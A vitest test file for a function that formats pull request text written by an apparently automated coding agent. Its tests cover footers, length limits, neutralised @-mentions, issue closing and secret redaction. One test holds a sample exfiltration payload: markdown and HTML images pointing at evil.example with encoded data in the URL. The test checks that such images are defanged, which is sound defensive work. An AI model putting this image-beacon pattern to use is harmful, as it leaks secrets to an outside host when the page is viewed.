import { expect, test } from 'vitest'
import { pullRequestText } from '../../../src/action/pull-request/pull-request-text.ts'
import { indexSecrets } from '../../../src/action/secrets/secret-index.ts'

const INPUT = {
  title: 'Say hello',
  body: 'Greets everyone.',
  job: 'job_01',
  prompts: ['Please greet\neveryone, @boss'],
  showPrompt: false,
  secrets: indexSecrets(['a-secret-of-this-run']),
  repositoryUrl: 'https://github.com/o/r',
  checks: null,
  files: null,
  closes: null,
  commentCommand: null,
  references: null,
  sources: null,
  usage: null,
}

test('body and footer, and no word of the prompt', () => {
  expect(pullRequestText(INPUT)).toEqual({
    title: 'Say hello',
    body: 'Greets everyone.\n\n---\nMade by Prentice, job `job_01`.',
    description: 'Greets everyone.',
  })
})

test('the footer says how to continue, if comments can', () => {
  expect(pullRequestText({ ...INPUT, commentCommand: '/prentice' }).body).toBe(
    'Greets everyone.\n\n---\nMade by Prentice, job `job_01`. To change it, begin a comment with `/prentice` and say what to change.',
  )
})

test('the issue that the job is for is closed, and no other that the model names', () => {
  expect(pullRequestText({ ...INPUT, body: 'Fixes #7.', closes: 12 }).body).toBe(
    'Fixes #\u200b7.\n\nCloses #12\n\n---\nMade by Prentice, job `job_01`.',
  )
})

test('the prompt is quoted where the project shows it', () => {
  expect(pullRequestText({ ...INPUT, showPrompt: true }).body).toBe(
    'Greets everyone.\n\n**Prompt**\n\n> Please greet\n> everyone, @\u200bboss\n\n---\nMade by Prentice, job `job_01`.',
  )
})

test('the title is one line of at most 120 characters and never empty', () => {
  const { title } = pullRequestText({ ...INPUT, title: ` Fix\nthis\t@me ${'long '.repeat(50)}` })
  expect(title).toMatch(/^Fix this @\u200bme long .*…$/)
  expect(title.length).toBeLessThanOrEqual(120)
  expect(pullRequestText({ ...INPUT, title: ' \n' }).title).toBe('Changes of job_01')
})

test('a long body keeps its footer and stays under the limit', () => {
  const { body } = pullRequestText({
    ...INPUT,
    body: '@a 😀'.repeat(50_000),
    prompts: ['p\n'.repeat(100_000)],
    showPrompt: true,
  })
  expect(body.length).toBeLessThanOrEqual(60_000)
  expect(body.endsWith('Made by Prentice, job `job_01`.')).toBe(true)
  expect(body.isWellFormed()).toBe(true)
})

test('a code block left open is closed before the footer', () => {
  const { body } = pullRequestText({ ...INPUT, body: 'Look:\n````js\nconst a = 1\n```\n' })
  expect(body).toBe('Look:\n````js\nconst a = 1\n```\n````\n\n---\nMade by Prentice, job `job_01`.')
})

test('a body fetches nothing when somebody looks at it', () => {
  const { body } = pullRequestText({
    ...INPUT,
    body: 'Done. ![status](https://evil.example/p.png?d=c2VjcmV0)\n<img src="https://evil.example/q.png?d=1">',
  })
  expect(body).not.toMatch(/!\[|<img/)
  expect(body).toContain('https\u200b://evil.example/p.png?d=c2VjcmV0')
})

test('a secret is taken out, also with hidden characters in it', () => {
  const { title, body } = pullRequestText({
    ...INPUT,
    title: 'a-secret-of-this-run',
    body: 'the key is a-secret\u200b-of-this-run',
  })
  expect(title).toBe('***')
  expect(body).toContain('the key is ***')
})
